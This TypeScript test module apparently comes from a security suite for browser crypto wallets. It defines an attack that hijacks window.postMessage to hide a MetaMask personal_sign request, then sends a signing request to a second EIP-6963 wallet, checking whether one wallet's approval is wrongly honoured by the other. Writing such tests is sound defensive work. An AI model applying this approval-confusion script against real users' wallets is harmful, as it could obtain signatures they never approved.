import type { Attack } from '../Attack.ts';
import { OTHER_WALLET } from '../otherWallet.ts';

/** Two wallets may hold two keys: what was approved for one is no approval for the other. */
export const attack: Attack = {
  entry: 'provider.request of another wallet',
  mechanism: 'approved for the first wallet, which the page keeps it from, then asked of the second',
  discovers: false,
  path: '/?other-wallet=0',
  script: `
const wallets = {};
addEventListener('eip6963:announceProvider', ({ detail }) => { wallets[detail.info.rdns] = detail.provider; });
dispatchEvent(new Event('eip6963:requestProvider'));
while (wallets['io.metamask'] === undefined || wallets['${OTHER_WALLET}'] === undefined) await kit.sleep(10);
const { postMessage } = window;
window.postMessage = function (data, ...rest) { if (data?.data?.data?.method !== 'personal_sign') return postMessage.call(this, data, ...rest); };
wallets['io.metamask'].request(kit.sign()).catch(() => undefined);
window.go = () => { window.postMessage = postMessage; wallets['${OTHER_WALLET}'].request(kit.sign()).catch(() => undefined); };
`,
  drive: async ({ page, approve, marker }) => {
    await approve(marker);
    await page.waitForFunction('window.go !== undefined');
    await page.evaluate('go()');
  },
};
